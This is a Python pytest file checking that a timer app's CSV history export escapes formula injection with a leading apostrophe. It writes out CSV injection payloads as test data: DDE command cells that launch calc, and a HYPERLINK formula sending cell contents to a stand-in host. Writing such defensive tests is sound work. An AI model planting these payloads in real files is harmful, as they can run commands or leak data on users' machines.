"""A spreadsheet opening the exported CSV never runs a cell as a formula.

A routine titled `=HYPERLINK(...)` (a shared routine file sets its own title),
or notes starting with `=cmd|...`, were written as they are: a spreadsheet
runs such a cell. Each text cell starting with = + - @, a tab or a carriage
return gets a leading apostrophe (the OWASP rule for CSV injection); numbers
stay numbers, and the JSON keeps the text as written.
"""

from __future__ import annotations

import csv
import io
import json
from collections.abc import Iterator
from datetime import datetime
from pathlib import Path

import pytest

from tests.storage.history_support import PARIS, add_session, new_session
from timer_app.core.history import StopReason, StopReport
from timer_app.storage.history.export import export_history, export_sessions
from timer_app.storage.history.store import SqliteHistoryStore

MORNING = datetime(2026, 3, 10, 7, 30, tzinfo=PARIS)
LINK = '=HYPERLINK("http://example.test/?"&A1,"Click for your results")'


@pytest.fixture
def store(data_dir: Path) -> Iterator[SqliteHistoryStore]:
    store = SqliteHistoryStore.open()
    yield store
    store.close()


def exported(store: SqliteHistoryStore) -> list[dict[str, str]]:
    out = io.StringIO(newline="")
    export_sessions(store, "csv", out)
    return list(csv.DictReader(io.StringIO(out.getvalue(), newline="")))


@pytest.mark.parametrize(
    "notes",
    [
        "=cmd|' /C calc'!A0",
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(1+1)*cmd|'/C calc'!A0",
        "\t=1+1",
        "\r=1+1",
    ],
)
def test_notes_that_would_run_are_text(store: SqliteHistoryStore, notes: str) -> None:
    sid = add_session(store, MORNING)
    store.set_notes(sid, notes)
    [row] = exported(store)
    assert row["notes"] == "'" + notes


def test_a_routine_title_and_a_stop_note_are_text(store: SqliteHistoryStore) -> None:
    sid = store.begin_session(new_session(MORNING, "linked", LINK))
    store.record_stop(sid, StopReport(StopReason.SHARP_PAIN, 0, "=Bridge", MORNING, "x"))
    [row] = exported(store)
    assert row["routine_title"] == "'" + LINK
    assert row["stops"].startswith("'=Bridge: sharp or shooting pain")


def test_numbers_and_plain_text_are_unchanged(store: SqliteHistoryStore, tmp_path: Path) -> None:
    sid = add_session(store, MORNING, pain=(4, None), notes="")
    store.set_notes(sid, "Felt it in the hamstring = good sign")
    target = tmp_path / "history.csv"
    assert export_history(store, target, "csv") == 1
    [row] = csv.DictReader(target.open(encoding="utf-8", newline=""))
    assert row["notes"] == "Felt it in the hamstring = good sign"
    assert row["session_id"] == str(sid) and row["pain_before"] == "4"
    assert row["routine_title"] == "Back routine"
    assert row["started_at"].startswith("2026-03-10T07:30:00+01:00")
    for name, value in row.items():
        assert not value.startswith("'"), name


def test_the_json_keeps_the_text_as_written(store: SqliteHistoryStore) -> None:
    sid = add_session(store, MORNING)
    store.set_notes(sid, "=cmd|' /C calc'!A0")
    out = io.StringIO()
    export_sessions(store, "json", out)
    assert "=cmd|' /C calc'!A0" in json.dumps(json.loads(out.getvalue()))
